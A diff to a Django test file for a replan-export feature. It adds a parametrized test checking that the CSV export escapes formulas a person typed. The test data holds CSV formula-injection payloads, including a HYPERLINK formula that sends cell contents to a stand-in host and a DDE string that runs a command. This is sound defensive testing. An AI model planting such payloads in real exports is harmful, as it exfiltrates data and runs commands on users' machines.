@@ -10,7 +10,7 @@ from unittest import mock
 import pytest
 from django.urls import reverse
 
-from supervisor import actions
+from runs.people import actions
 from tests.dashboard_world import agent_replanned, pending, plan_waiting, world  # noqa: F401
 from tests.factories import ReplanEventFactory
 
@@ -20,7 +20,7 @@ JSONL = reverse("replan_export_jsonl")
 QUERIES = 7  # session, user, 2 for permissions, the count, one page of replans (with run, ticket and event), role chips
 
 
-def person_replanned(user):
+def person_replanned(user, trigger: str = "the customer phoned"):
     """A reviewer's edit of a waiting plan: reword subtask 1, drop 3, add a fourth."""
     run = plan_waiting()
     subtasks = {s.number: s for s in run.subtasks.prefetch_related("steps")}
@@ -31,7 +31,7 @@ def person_replanned(user):
         {"number": 2, "goal": subtasks[2].goal, "kind": "damaged_item", "steps": steps(subtasks[2])},
         {"number": 4, "goal": "refund the tax on the bookcase", "kind": "damaged_item", "steps": steps(subtasks[2])},
     ]
-    actions.plan_edit(run_id=run.pk, user=user, subtasks=proposal, trigger="the customer phoned")
+    actions.plan_edit(run_id=run.pk, user=user, subtasks=proposal, trigger=trigger)
     return run
 
 
@@ -148,6 +148,16 @@ def test_it_exports_the_filtered_set_as_csv(world, reviewer, auditor, client_for
     assert (row["added"], row["removed"], row["changed"]) == ("1", "0", "2")
     assert json.loads(row["new_plan"])[0]["goal"] == "refund the second delivery charge"
     assert by_agent.trigger not in body(client_for(auditor).get(CSV, {"actor_kind": "person"}))
+
+
+@pytest.mark.parametrize("trigger", ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                                     "\tsneaky"])
+def test_the_csv_export_writes_a_formula_a_person_typed_as_text(world, reviewer, auditor, client_for, trigger):
+    person_replanned(reviewer, trigger=trigger)
+    (row,) = csv.DictReader(io.StringIO(body(client_for(auditor).get(CSV))))
+    assert row["trigger"] == "'" + trigger
+    jsonl = json.loads(body(client_for(auditor).get(JSONL)))
+    assert jsonl["trigger"] == trigger  # JSON is data, not a spreadsheet: left as typed
 
 
 def test_it_exports_jsonl_one_replan_per_line(world, reviewer, auditor, client_for):
